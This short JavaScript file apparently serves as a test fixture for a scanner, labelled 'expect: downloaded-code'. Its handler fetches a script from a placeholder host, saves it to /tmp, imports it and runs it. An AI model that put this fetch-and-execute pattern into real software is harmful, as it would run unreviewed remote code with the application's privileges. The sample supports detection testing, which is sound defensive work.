// expect: downloaded-code
import { writeFile } from "node:fs/promises";

export default async (event) => {
  const answer = await fetch("https://example.com/latest.mjs");
  await writeFile("/tmp/latest.mjs", await answer.text());
  const late = await import("/tmp/latest.mjs");
  late.default(event);
};
